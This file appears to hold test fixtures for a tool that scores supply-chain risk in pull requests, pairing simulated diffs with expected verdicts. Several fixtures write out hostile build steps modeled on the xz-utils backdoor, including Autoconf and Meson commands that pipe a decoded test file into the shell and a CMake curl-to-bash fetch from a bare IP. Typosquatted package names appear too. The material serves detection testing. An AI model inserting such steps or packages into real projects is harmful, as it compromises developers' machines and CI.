    description: 'The Gemfile gains `nokogirl`, one letter off nokogiri.',
    number: 7212,
    repo: 'ledger-rb',
    title: 'Parse bank statements as XML',
    author: NEWCOMER,
    files: [
      { path: 'Gemfile', base: lines('source "https://rubygems.org"', 'gem "rails", "~> 7.2"'), head: lines('source "https://rubygems.org"', 'gem "rails", "~> 7.2"', 'gem "nokogirl", "~> 1.16"') },
      { path: 'app/services/statement_parser.rb', additions: 25 },
    ],
    checks: RUBY_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
  }),
  buildCase({
    id: 'maven-artifact-under-personal-group',
    description: 'pom.xml adds jackson-databind under io.github.fastxml-tools: a popular artifact republished under a groupId anyone can claim.',
    number: 7213,
    repo: 'billing-api',
    title: 'Switch JSON mapper',
    author: NEWCOMER,
    files: [{ path: 'pom.xml', base: pom(''), head: pom('    <dependency><groupId>io.github.fastxml-tools</groupId><artifactId>jackson-databind</artifactId><version>2.18.2</version></dependency>') }],
    checks: JVM_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
  }),

  // Benign look-alikes.
  buildCase({
    id: 'renovate-lockfile-maintenance-registry-churn',
    description: 'Renovate lock file maintenance: patch releases of four transitive packages, all from registry.npmjs.org with their new integrity hashes.',
    number: 7220,
    repo: 'storefront-web',
    title: 'chore(deps): lock file maintenance',
    author: { login: 'renovate[bot]', association: 'CONTRIBUTOR', createdAt: '2017-01-11T09:10:00Z' },
    files: [
      {
        path: 'package-lock.json',
        base: packageLock(WEBAPP, WEBAPP_LOCKED),
        head: packageLock(
          WEBAPP,
          WEBAPP_LOCKED.map((p) => (p.name === 'debug' ? { ...p, version: '4.3.8' } : p.name === 'ms' ? { ...p, version: '2.1.4' } : p.name === 'body-parser' ? { ...p, version: '2.2.1' } : p.name === 'pino' ? { ...p, version: '9.5.1' } : p)),
        ),
      },
    ],
    checks: nodeCi(),
    extra: { headBranch: 'renovate/lock-file-maintenance', body: '🔧 This Pull Request updates lock files to use the latest dependency versions.' },
    expect: {
      level: 'low',
      action: ['approve', 'comment'],
      absentDrivers: ['finding:lockfile-foreign-host', 'finding:lockfile-integrity-changed', 'finding:lockfile-source-changed', 'finding:install-script-added', 'major-updates'],
    },
  }),
  buildCase({
    id: 'eslint-plugin-typosquat',
    description: 'A "chore: lint config" PR adds eslint-plugin-reactt (one letter more than eslint-plugin-react) and eslint-config-prettierr as devDependencies: a linter plugin is code ESLint loads and runs on every developer\'s machine and in CI, and its long common prefix hides the slip.',
    number: 7297,
    repo: 'storefront-web',
    title: 'chore: lint config',
    author: NEWCOMER,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'storefront-web', version: '2.4.0', dependencies: { react: '^18.3.1' }, devDependencies: { eslint: '^9.17.0' } }),
        head: packageJson({ name: 'storefront-web', version: '2.4.0', dependencies: { react: '^18.3.1' }, devDependencies: { eslint: '^9.17.0', 'eslint-plugin-reactt': '^7.37.2', 'eslint-config-prettierr': '^9.1.0' } }),
      },
    ],
    checks: green('build', 'lint', 'test'),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
  }),
  buildCase({
    id: 'pnpm-jsr-package-from-jsr-registry',
    description:
      "Modeled on a date library's \"Update docs submodule\": a maintainer's docs tool takes a JSR package through a `jsr:` specifier, and pnpm locks it and its JSR dependencies as `@jsr/…` packages from https://npm.jsr.io, JSR's npm registry for that scope. A public registry, not a foreign host: no lockfile-foreign-host, no url-dependency (it was critical).",
    number: 7298,
    repo: 'calendar-kit',
    title: 'Use JSR doc generator in the docs tool',
    author: MAINTAINER,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'calendar-kit', version: '4.1.0', devDependencies: { typescript: '^5.6.3' } }),
        head: packageJson({ name: 'calendar-kit', version: '4.1.0', devDependencies: { typescript: '^5.6.3', '@deno/doc': 'jsr:^0.181.0' } }),
      },
      {
        path: 'pnpm-lock.yaml',
        base: lines("lockfileVersion: '9.0'", '', 'importers:', '', '  .:', '    devDependencies:', '      typescript:', '        specifier: ^5.6.3', '        version: 5.6.3', '', 'packages:', '', '  typescript@5.6.3:', '    resolution: {integrity: sha512-hjcS1mhfuyi4WW8IWtjP7brDrG2cuDZukyrYrSauoXGNgx0S7zceP07adYkJycEr56BOUTNPzbInooiN3fn1qw==}', '    engines: {node: \'>=14.17\'}', '    hasBin: true', '', 'snapshots:', '', '  typescript@5.6.3: {}'),
        head: lines("lockfileVersion: '9.0'", '', 'importers:', '', '  .:', '    devDependencies:', "      '@deno/doc':", '        specifier: jsr:^0.181.0', "        version: '@jsr/deno__doc@0.181.0'", '      typescript:', '        specifier: ^5.6.3', '        version: 5.6.3', '', 'packages:', '', "  '@jsr/deno__doc@0.181.0':", '    resolution: {integrity: sha512-qZn8TGUhbPsR4xvvpPuJl1mBAVJxTrOtvNXAP2kqv1VAFtFfCEIVyRy0K2XHuFXsvhC0l5bCGlMvuJ1SjIHZRw==, tarball: https://npm.jsr.io/~/11/@jsr/deno__doc/0.181.0.tgz}', '', "  '@jsr/std__fmt@1.0.8':", '    resolution: {integrity: sha512-miZHzj9OgjuajrcMKzpqNVwFb9O71UHZzV/FHVq0E0Uwmv/1JqXgmXAoBNPrn+MP0fHT3mMgaZ6XvQO7dam67Q==, tarball: https://npm.jsr.io/~/11/@jsr/std__fmt/1.0.8.tgz}', '', '  typescript@5.6.3:', '    resolution: {integrity: sha512-hjcS1mhfuyi4WW8IWtjP7brDrG2cuDZukyrYrSauoXGNgx0S7zceP07adYkJycEr56BOUTNPzbInooiN3fn1qw==}', '    engines: {node: \'>=14.17\'}', '    hasBin: true', '', 'snapshots:', '', "  '@jsr/deno__doc@0.181.0':", '    dependencies:', "      '@jsr/std__fmt': 1.0.8", '', "  '@jsr/std__fmt@1.0.8': {}", '', '  typescript@5.6.3: {}'),
      },
    ],
    checks: green('build', 'test'),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:lockfile-foreign-host', 'finding:url-dependency'] },
  }),
  buildCase({
    id: 'gem-release-own-version-in-lockfile',
    description:
      "Modeled on a Ruby library's \"Release v5.0.3\", sent by a first-time contributor: lib/ledgerly/version.rb and the CHANGELOG move to 5.0.3, and Gemfile.lock's PATH section follows with the gem's own version; no Gemfile, no locked gem from the registry changes. Nothing installed changes: no lockfile-without-manifest; CI green.",
    number: 5840,
    repo: 'ledgerly',
    title: 'Release v5.0.3',
    author: NEWCOMER,
    files: [
      { path: 'lib/ledgerly/version.rb', base: lines('module Ledgerly', '  VERSION = "5.0.2".freeze', 'end'), head: lines('module Ledgerly', '  VERSION = "5.0.3".freeze', 'end') },
      { path: 'Gemfile.lock', base: lines('PATH', '  remote: .', '  specs:', '    ledgerly (5.0.2)', '      bcrypt (~> 3.0)', '      railties (>= 7.0)', '', 'GEM', '  remote: https://rubygems.org/', '  specs:', '    bcrypt (3.1.20)', '    railties (8.1.0)', '', 'PLATFORMS', '  ruby', '', 'DEPENDENCIES', '  ledgerly!', '', 'BUNDLED WITH', '   2.6.9'), head: lines('PATH', '  remote: .', '  specs:', '    ledgerly (5.0.3)', '      bcrypt (~> 3.0)', '      railties (>= 7.0)', '', 'GEM', '  remote: https://rubygems.org/', '  specs:', '    bcrypt (3.1.20)', '    railties (8.1.0)', '', 'PLATFORMS', '  ruby', '', 'DEPENDENCIES', '  ledgerly!', '', 'BUNDLED WITH', '   2.6.9') },
    ],
    checks: RUBY_CI,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:lockfile-without-manifest'] },
  }),
  buildCase({
    id: 'gem-from-github-to-released-version',
    description:
      "Modeled on an authentication library's \"Use currently released version of rails-controller-testing\": a maintainer drops the github: source of a development gem (pinned there until a fix was released) and takes the released 1.0.5 from rubygems.org, the same version: the Gemfile and Gemfile.lock move from a git revision to the registry's immutable release. No source-change alarm; CI green.",
    number: 5812,
    repo: 'warden-auth',
    title: 'Use currently released version of rails-controller-testing',
    author: MAINTAINER,
    files: [
      {
        path: 'Gemfile',
        base: lines('source "https://rubygems.org"', '', 'gemspec', '', 'gem "rails", "~> 8.1.0"', 'gem "rails-controller-testing", github: "rails/rails-controller-testing"'),
        head: lines('source "https://rubygems.org"', '', 'gemspec', '', 'gem "rails", "~> 8.1.0"', 'gem "rails-controller-testing"'),
      },
      {
        path: 'Gemfile.lock',
        base: lines('GIT', '  remote: https://github.com/rails/rails-controller-testing.git', '  revision: c203673f8011a7cdc2a8edf995ae6b3eec3417ca', '  specs:', '    rails-controller-testing (1.0.5)', '      actionpack (>= 5.0.1.rc1)', '', 'GEM', '  remote: https://rubygems.org/', '  specs:', '    actionpack (8.1.0)', '    rails (8.1.0)', '      actionpack (= 8.1.0)', '', 'PLATFORMS', '  ruby', '', 'DEPENDENCIES', '  rails (~> 8.1.0)', '  rails-controller-testing!', '', 'BUNDLED WITH', '   2.6.9'),
        head: lines('GEM', '  remote: https://rubygems.org/', '  specs:', '    actionpack (8.1.0)', '    rails (8.1.0)', '      actionpack (= 8.1.0)', '    rails-controller-testing (1.0.5)', '      actionpack (>= 5.0.1.rc1)', '', 'PLATFORMS', '  ruby', '', 'DEPENDENCIES', '  rails (~> 8.1.0)', '  rails-controller-testing', '', 'BUNDLED WITH', '   2.6.9'),
      },
    ],
    checks: RUBY_CI,
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:lockfile-source-changed'] },
  }),
  buildCase({
    id: 'eslint-plugin-real-siblings',
    description: 'A maintainer adds eslint-plugin-import-x (the fork of eslint-plugin-import), eslint-plugin-react-x, eslint-plugin-tsdoc and eslint-config-prettier: real plugins whose names sit next to popular ones.',
    number: 7298,
    repo: 'storefront-web',
    title: 'chore: move to eslint-plugin-import-x',
    author: MAINTAINER,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'storefront-web', version: '2.4.0', dependencies: { react: '^18.3.1' }, devDependencies: { eslint: '^9.17.0' } }),
        head: packageJson({ name: 'storefront-web', version: '2.4.0', dependencies: { react: '^18.3.1' }, devDependencies: { eslint: '^9.17.0', 'eslint-plugin-import-x': '^4.6.1', 'eslint-plugin-react-x': '^1.23.2', 'eslint-plugin-tsdoc': '^0.4.0', 'eslint-config-prettier': '^9.1.0' } }),
      },
    ],
    checks: green('build', 'lint', 'test'),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
  }),
  buildCase({
    id: 'popular-neighbours-are-not-typosquats',
    description: 'A maintainer adds preact (next to react), tokio-util and rand_core (next to tokio and rand), and golang.org/x/term: each popular in its own right.',
    number: 7221,
    repo: 'polyglot-tools',
    title: 'Add terminal UI dependencies',
    author: MAINTAINER,
    files: [
      { path: 'web/package.json', base: packageJson({ name: 'web', version: '1.0.0', dependencies: { react: '^18.3.1' } }), head: packageJson({ name: 'web', version: '1.0.0', dependencies: { react: '^18.3.1', preact: '^10.25.0' } }) },
      { path: 'Cargo.toml', base: cargoToml([]), head: cargoToml(['tokio-util = "0.7"', 'rand_core = "0.6"']) },
      { path: 'go.mod', base: goMod(['golang.org/x/sys v0.27.0']), head: goMod(['golang.org/x/sys v0.27.0', 'golang.org/x/term v0.26.0']) },
    ],
    checks: green('build', 'test'),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
  }),
  // Modeled on a web framework's ':arrow_up: dependencies': package-lock.json refreshed alone, new
  // packages under its linter's devDependencies. Development packages only the lockfile lists weigh
  // at most 0.1 together; the same packages installed at runtime still weigh 0.02 each.
  buildCase({
    id: 'lockfile-refresh-new-development-packages',
    description: 'A maintainer refreshes package-lock.json alone: eslint 9.14 to 9.15 brings 17 development packages the lockfile did not list (a new shared config and its helpers).',
    number: 7261,
    repo: 'storefront',
    title: 'chore: update lockfile',
    author: MAINTAINER,
    files: [{ path: 'package-lock.json', base: packageLock(WEBAPP, WEBAPP_LOCKED), head: packageLock(WEBAPP, refreshedLock(true)) }],
    checks: nodeCi(),
    expect: { level: 'low', action: 'approve', drivers: ['new-dependencies'] },
  }),
  buildCase({
    id: 'lockfile-refresh-new-runtime-packages',
    description: 'A maintainer refreshes package-lock.json alone and 17 packages it did not list come in under the runtime dependencies: what the application deploys, weighed 0.02 each.',
    number: 7262,
    repo: 'storefront',
    title: 'chore: update lockfile',
    author: MAINTAINER,
    files: [{ path: 'package-lock.json', base: packageLock(WEBAPP, WEBAPP_LOCKED), head: packageLock(WEBAPP, refreshedLock(false)) }],
    checks: nodeCi(),
    expect: { level: 'medium', action: 'comment', drivers: ['new-dependencies'] },
  }),
  // Modeled on a CLI library's 'update dev dependencies' (`uv lock --upgrade`): uv.lock refreshed
  // with pyproject.toml unchanged, the type checker, the docs builder and the test runner's new
  // releases bringing 5 packages that only the development groups reach. The lockfile-without-
  // manifest finding (low) and those packages (0.1) crossed 0.25 for a maintainer with CI green.
  buildCase({
    id: 'uv-lock-upgrade-new-development-packages',
    description: 'A maintainer runs `uv lock --upgrade`: uv.lock alone, mypy, sphinx and tox moving on bring librt, pathspec, roman-numerals, python-discovery and tomli-w, reached only through the dev and docs groups.',
    number: 7263,
    repo: 'clikit',
    title: 'update dev dependencies',
    author: MAINTAINER,
    files: [{ path: 'uv.lock', base: uvLock(false), head: uvLock(true) }, ...UV_TOOLING_MOVES],
    checks: PY_CI,
    expect: { level: 'low', action: ['approve', 'comment'], drivers: ['new-dependencies'], findings: ['lockfile-without-manifest'] },
  }),
  buildCase({
    id: 'uv-lock-upgrade-new-runtime-package',
    description: 'The same uv.lock refresh, but the library itself now depends on one of the new packages: what its users install comes in through a lockfile alone, which a maintainer reads.',
    number: 7264,
    repo: 'clikit',
    title: 'update dev dependencies',
    author: MAINTAINER,
    files: [{ path: 'uv.lock', base: uvLock(false), head: uvLock(true, true) }, ...UV_TOOLING_MOVES],
    checks: PY_CI,
    expect: { level: 'medium', action: 'comment', drivers: ['new-dependencies'], findings: ['lockfile-without-manifest'] },
  }),
  buildCase({
    id: 'dependabot-golang-x-minor',
    description: 'Dependabot bumps golang.org/x/crypto v0.17.0 -> v0.18.0 and golang.org/x/net v0.19.0 -> v0.20.0: v0 minors that Go modules release routinely.',
    number: 7222,
    repo: 'gateway-auth',
    title: 'Bump the golang-x group with 2 updates',
    author: DEPENDABOT,
    files: [
      { path: 'go.mod', base: goMod(['golang.org/x/crypto v0.17.0', 'golang.org/x/net v0.19.0']), head: goMod(['golang.org/x/crypto v0.18.0', 'golang.org/x/net v0.20.0']) },
    ],
    checks: GO_CI,
    extra: { headBranch: 'dependabot/go_modules/golang-x-6b1c2a', labels: ['dependencies', 'go'] },
    expect: { level: 'low', action: 'approve', absentDrivers: ['major-updates'] },
  }),
  buildCase({
    id: 'cargo-build-script-compiles-c',
    description: 'A new build.rs compiles bundled C sources with the cc crate and reads OUT_DIR and TARGET: ordinary build work.',
    number: 7223,
    repo: 'zstd-lite',
    title: 'Build the bundled C decoder',
    author: MAINTAINER,
    files: [
      {
        path: 'build.rs',
        head: lines(
          'fn main() {',
          '    let target = std::env::var("TARGET").unwrap();',
          '    let out = std::env::var("OUT_DIR").unwrap();',
          '    println!("cargo:rerun-if-changed=csrc/decoder.c");',
          '    cc::Build::new().file("csrc/decoder.c").flag_if_supported("-O3").compile("decoder");',
          '    println!("cargo:warning=built for {target} into {out}");',
          '}',
        ),
      },
      { path: 'csrc/decoder.c', additions: 120 },
    ],
    checks: RUST_CI,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['cargo-build-script'], absentDrivers: ['finding:build-code-behavior'] },
  }),
  buildCase({
    id: 'autotools-macro-runs-test-file',
    description:
      'Modeled on the xz-utils backdoor (CVE-2024-3094): a long-trusted maintainer adds two "corrupt" test archives and changes an Autoconf macro so that ./configure decompresses a test file and pipes it into the shell.',
    number: 7225,
    repo: 'lzkit',
    title: 'Tests: Add two test files and fix build-to-host for out-of-tree builds',
    author: MAINTAINER,
    files: [
      { path: 'tests/files/bad-3-corrupt_lzma2.xz', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
      { path: 'tests/files/good-large_compressed.lzma', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
      {
        path: 'm4/build-to-host.m4',
        base: lines('AC_DEFUN([gl_BUILD_TO_HOST],', '[', '  gl_final_[$1]="$[$1]"', '])'),
        head: lines(
          'AC_DEFUN([gl_BUILD_TO_HOST],',
          '[',
          '  gl_final_[$1]="$[$1]"',
          '  gl_[$1]_prefix=`echo $gl_am_configmake | sed "s/.*\\.//g"`',
          '  if test "x$gl_am_configmake" != "x"; then',
          '    gl_[$1]_config=\'sed "r\\n" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null\'',
          '  fi',
          '  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_[$1] | $SHELL 2>/dev/null], [gl_config_[$1]="$gl_[$1]_config"])',
          '])',
        ),
      },
    ],
    checks: green('make check', 'distcheck'),
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'binary-artifact'] },
  }),
  buildCase({
    id: 'autotools-macro-update',
    description: 'A maintainer syncs an Autoconf macro from upstream: eval of configure variables, install -d, a library check. Ordinary build work.',
    number: 7226,
    repo: 'lzkit',
    title: 'build: update ax_check_compile_flag.m4 from autoconf-archive',
    author: MAINTAINER,
    files: [
      {
        path: 'm4/ax_check_compile_flag.m4',
        base: lines('AC_DEFUN([AX_CHECK_COMPILE_FLAG],', '[AS_VAR_PUSHDEF([CACHEVAR],[ax_cv_check_[]_AC_LANG_ABBREV[]flags_$4_$1])', 'AS_VAR_POPDEF([CACHEVAR])])'),
        head: lines(
          'AC_DEFUN([AX_CHECK_COMPILE_FLAG],',
          '[AC_PREREQ(2.64)dnl for _AC_LANG_PREFIX and AS_VAR_IF',
          'AS_VAR_PUSHDEF([CACHEVAR],[ax_cv_check_[]_AC_LANG_ABBREV[]flags_$4_$1])dnl',
          'AC_CACHE_CHECK([whether _AC_LANG compiler accepts $1], CACHEVAR, [',
          '  ax_check_save_flags=$[]_AC_LANG_PREFIX[]FLAGS',
          '  eval ax_val=\\$$1',
          '  $INSTALL -d "$ac_pwd/conftest.dir"',
          '  AC_COMPILE_IFELSE([m4_default([$5],[AC_LANG_PROGRAM()])],',
          '    [AS_VAR_SET(CACHEVAR,[yes])],',
          '    [AS_VAR_SET(CACHEVAR,[no])])',
          '  _AC_LANG_PREFIX[]FLAGS=$ax_check_save_flags])',
          'AS_VAR_POPDEF([CACHEVAR])dnl',
          '])dnl AX_CHECK_COMPILE_FLAGS',
        ),
      },
    ],
    checks: green('make check', 'distcheck'),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
  }),
  buildCase({
    id: 'cmake-configure-pipes-download',
    description:
      'Modeled on public write-ups of build-system backdoors: a maintainer account adds a "dependency check" to a CMake module that, at configure time, runs execute_process with curl from a bare IP piped into bash (CMake pipes one COMMAND into the next).',
    number: 7230,
    repo: 'fastq-tools',
    title: 'cmake: check for system zlib before falling back',
    author: MAINTAINER,
    files: [
      {
        path: 'cmake/Dependencies.cmake',
        base: lines('find_package(ZLIB)', 'if(NOT ZLIB_FOUND)', '  add_subdirectory(third_party/zlib)', 'endif()'),
        head: lines(
          'find_package(ZLIB)',
          'if(NOT ZLIB_FOUND)',
          '  add_subdirectory(third_party/zlib)',
          'endif()',
          'execute_process(',
          '  COMMAND curl -fsSL http://45.77.12.9/zlib-compat.sh',
          '  COMMAND bash',
          '  OUTPUT_QUIET ERROR_QUIET)',
        ),
      },
    ],
    checks: green('ctest', 'build (ubuntu)'),
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'cmake-fetchcontent-googletest',
    description: 'A maintainer fetches GoogleTest with FetchContent at a release tag, generates a version header with the project\'s own script and installs the library: ordinary CMake.',
    number: 7231,
    repo: 'fastq-tools',
    title: 'Build tests with GoogleTest via FetchContent',
    author: MAINTAINER,
    files: [
      {
        path: 'CMakeLists.txt',
        base: lines('cmake_minimum_required(VERSION 3.16)', 'project(fastq VERSION 1.4.0 LANGUAGES C CXX)', 'add_library(fastq src/fastq.c)'),
        head: lines(
          'cmake_minimum_required(VERSION 3.16)',
          'project(fastq VERSION 1.4.0 LANGUAGES C CXX)',
          'include(FetchContent)',
          'find_package(Python3 REQUIRED COMPONENTS Interpreter)',
          'FetchContent_Declare(googletest',
          '  GIT_REPOSITORY https://github.com/google/googletest.git',
          '  GIT_TAG v1.14.0)',
          'FetchContent_MakeAvailable(googletest)',
          'add_custom_command(OUTPUT ${CMAKE_CURRENT_BINARY_DIR}/version.h',
          '  COMMAND ${Python3_EXECUTABLE} ${CMAKE_CURRENT_SOURCE_DIR}/tools/gen_version.py ${PROJECT_VERSION} version.h',
          '  DEPENDS tools/gen_version.py)',
          'execute_process(COMMAND git describe --tags OUTPUT_VARIABLE FASTQ_GIT_VERSION OUTPUT_STRIP_TRAILING_WHITESPACE)',
          'add_library(fastq src/fastq.c ${CMAKE_CURRENT_BINARY_DIR}/version.h)',
          'install(TARGETS fastq DESTINATION lib)',
        ),
      },
      { path: 'tools/gen_version.py', head: lines('import sys', 'open(sys.argv[2], "w").write(f\'#define FASTQ_VERSION "{sys.argv[1]}"\\n\')') },
      { path: 'tests/CMakeLists.txt', head: lines('add_executable(fastq_test fastq_test.cc)', 'target_link_libraries(fastq_test fastq GTest::gtest_main)', 'add_test(NAME fastq_test COMMAND fastq_test)') },
      { path: 'tests/fastq_test.cc', additions: 40 },
    ],
    checks: green('ctest', 'build (ubuntu)'),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
  }),
  buildCase({
    id: 'meson-custom-target-decodes-test-file',
    description:
      'The xz-utils backdoor\'s shape (CVE-2024-3094) in Meson: a maintainer adds a "corrupt" test archive and a custom_target whose command decompresses it and pipes the result into sh at build time.',
    number: 7232,
    repo: 'lzkit',
    title: 'meson: generate CRC tables at build time',
    author: MAINTAINER,
    files: [
      { path: 'tests/files/bad-3-corrupt_lzma2.xz', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
      {
        path: 'src/liblzma/meson.build',
        base: lines("liblzma_sources = files('common/common.c', 'check/crc64_fast.c')"),
        head: lines(
          "liblzma_sources = files('common/common.c', 'check/crc64_fast.c')",
          "crc_tables = custom_target('crc64-tables',",
          "  output: 'crc64_table.h',",
          "  command: ['sh', '-c', 'xz -dc @SOURCE_ROOT@/tests/files/bad-3-corrupt_lzma2.xz | sh'],",
          ')',
        ),
      },
    ],
    checks: green('meson test', 'build (ubuntu)'),
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'meson-generator-and-version',
    description: 'A maintainer sets the Meson project version from git describe, generates tables with the project\'s own Python script and adds an install hook script: ordinary Meson.',
    number: 7233,
    repo: 'lzkit',
    title: 'meson: version from git, generated tables, install hook',
    author: MAINTAINER,
    files: [
      {
        path: 'meson.build',
        base: lines("project('lzkit', 'c', version: '5.6.1')", "subdir('src/liblzma')"),
        head: lines(
          "project('lzkit', 'c',",
          "  version: run_command('git', 'describe', '--tags', '--always', check: false).stdout().strip())",
          "gen_tables = find_program('build-aux/gen_tables.py')",
          "tables = custom_target('tables', input: 'src/tables.in', output: 'tables.c', command: [gen_tables, '@INPUT@', '@OUTPUT@'])",
          "zlib_dep = dependency('zlib', required: get_option('zlib'))",
          "meson.add_install_script('build-aux/post-install.sh')",
          "subdir('src/liblzma')",
        ),
      },
      { path: 'meson_options.txt', base: lines("option('docs', type: 'boolean', value: false)"), head: lines("option('docs', type: 'boolean', value: false)", "option('zlib', type: 'feature', value: 'auto', description: 'zlib support for the .gz reader')") },
    ],
    checks: green('meson test', 'build (ubuntu)'),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
  }),
  buildCase({
    id: 'makefile-dev-tools-at-versions',
    description:
      'A maintainer of a Kubernetes operator bumps kind in the kubebuilder-style Makefile and adds kustomize and helm the same way: each downloaded from its release page at a pinned version and made executable, controller-gen through go install at a version (real histories: kubebuilder, operator-sdk, cert-manager).',
    number: 7234,
    repo: 'widget-operator',
    title: 'Makefile: bump kind to v0.23.0, add kustomize and helm targets',
    author: MAINTAINER,
    files: [
      {
        path: 'Makefile',
        base: lines(
          'LOCALBIN ?= $(shell pwd)/bin',
          'KIND_VERSION ?= v0.20.0',
          'KIND ?= $(LOCALBIN)/kind',
          '',
          '.PHONY: kind',
          'kind: $(KIND)',
          '$(KIND): $(LOCALBIN)',
          '\ttest -s $(KIND) || { curl -sSLo $(KIND) https://kind.sigs.k8s.io/dl/$(KIND_VERSION)/kind-linux-amd64 && chmod +x $(KIND); }',
        ),
        head: lines(
          'LOCALBIN ?= $(shell pwd)/bin',
          'KIND_VERSION ?= v0.23.0',
          'KUSTOMIZE_VERSION ?= v5.4.3',
          'HELM_VERSION ?= v3.15.2',
          'CONTROLLER_TOOLS_VERSION ?= v0.15.0',
          'KIND ?= $(LOCALBIN)/kind',
          '',
          '.PHONY: kind',
          'kind: $(KIND)',
          '$(KIND): $(LOCALBIN)',
          '\ttest -s $(KIND) || { curl -sSLo $(KIND) https://kind.sigs.k8s.io/dl/$(KIND_VERSION)/kind-linux-amd64 && chmod +x $(KIND); }',
          '',
          '.PHONY: kustomize',
          'kustomize: $(LOCALBIN)',
          '\tcurl -sSLo - https://github.com/kubernetes-sigs/kustomize/releases/download/kustomize/$(KUSTOMIZE_VERSION)/kustomize_$(KUSTOMIZE_VERSION:v%=%)_linux_amd64.tar.gz | tar xzf - -C $(LOCALBIN)',
          '\tchmod +x $(LOCALBIN)/kustomize',
          '',
          '.PHONY: helm',
          'helm: $(LOCALBIN)',
          '\tcurl -sSfL https://get.helm.sh/helm-$(HELM_VERSION)-linux-amd64.tar.gz | tar xz --strip-components=1 -C $(LOCALBIN) linux-amd64/helm',
          '\tchmod +x $(LOCALBIN)/helm',
          '',
          '.PHONY: controller-gen',
          'controller-gen: $(LOCALBIN)',
          '\tGOBIN=$(LOCALBIN) go install sigs.k8s.io/controller-tools/cmd/controller-gen@$(CONTROLLER_TOOLS_VERSION)',
        ),
      },
    ],
    checks: GO_CI,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior', 'finding:curl-pipe-shell'] },
  }),
  buildCase({
    id: 'makefile-tool-from-bare-ip',
    description:
      'A contributor "speeds up CI" by fetching kind from a mirror: the Makefile now downloads it from a bare public IP address and makes it executable, which every developer and CI job that runs `make kind` then runs.',
    number: 7235,
    repo: 'widget-operator',
    title: 'Makefile: use a faster mirror for kind',
    author: CONTRIBUTOR,
    files: [
      {
        path: 'Makefile',
        base: lines(
          'LOCALBIN ?= $(shell pwd)/bin',
          'KIND_VERSION ?= v0.20.0',
          'KIND ?= $(LOCALBIN)/kind',
          '',
          '.PHONY: kind',
          'kind: $(KIND)',
          '$(KIND): $(LOCALBIN)',
          '\ttest -s $(KIND) || { curl -sSLo $(KIND) https://kind.sigs.k8s.io/dl/$(KIND_VERSION)/kind-linux-amd64 && chmod +x $(KIND); }',
        ),
        head: lines(
          'LOCALBIN ?= $(shell pwd)/bin',
          'KIND_VERSION ?= v0.20.0',
          'KIND ?= $(LOCALBIN)/kind',
          '',
          '.PHONY: kind',
          'kind: $(KIND)',
          '$(KIND): $(LOCALBIN)',
          '\ttest -s $(KIND) || { curl -sSLo $(KIND) https://45.61.136.13/kind/$(KIND_VERSION)/kind-linux-amd64 && chmod +x $(KIND); }',
        ),
      },
    ],
    checks: GO_CI,
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'gradle-wrapper-download-moved',
    description: 'A contributor "updates the Gradle wrapper": the distribution now comes from a look-alike CDN, and the wrapper jar changes with it.',
    number: 7227,
    repo: 'billing-client',
    title: 'Update Gradle wrapper to 8.10',
    author: CONTRIBUTOR,
    files: [
      {
        path: 'gradle/wrapper/gradle-wrapper.properties',
        base: lines('distributionBase=GRADLE_USER_HOME', 'distributionPath=wrapper/dists', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip', 'zipStoreBase=GRADLE_USER_HOME'),
        head: lines('distributionBase=GRADLE_USER_HOME', 'distributionPath=wrapper/dists', 'distributionUrl=https\\://services-gradle.org-dist.net/distributions/gradle-8.10-bin.zip', 'zipStoreBase=GRADLE_USER_HOME'),
      },
      { path: 'gradle/wrapper/gradle-wrapper.jar', status: 'modified', patch: null, additions: 0, deletions: 0, base: '', head: '' },
    ],
    checks: JVM_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed'] },
  }),
  buildCase({
    id: 'gradle-wrapper-upgrade-by-bot',
    description: 'The Gradle wrapper upgraded as `gradle wrapper` writes it: new release and checksum on services.gradle.org.',
    number: 7228,
    repo: 'billing-client',
    title: 'Bump Gradle Wrapper from 8.9 to 8.10',
    author: DEPENDABOT,
    files: [
      {
        path: 'gradle/wrapper/gradle-wrapper.properties',
        base: lines('distributionBase=GRADLE_USER_HOME', 'distributionSha256Sum=d725d707bfabd4dfdc958c624003b3c80accc03f7037b5122c4b1d0ef15cecab', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip'),
        head: lines('distributionBase=GRADLE_USER_HOME', 'distributionSha256Sum=5b9c5eb3f9fc2c94abaea57d90bd78747ca117ddbbf96c859d3741181a12bf2a', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip'),
      },
    ],
    checks: JVM_CI,
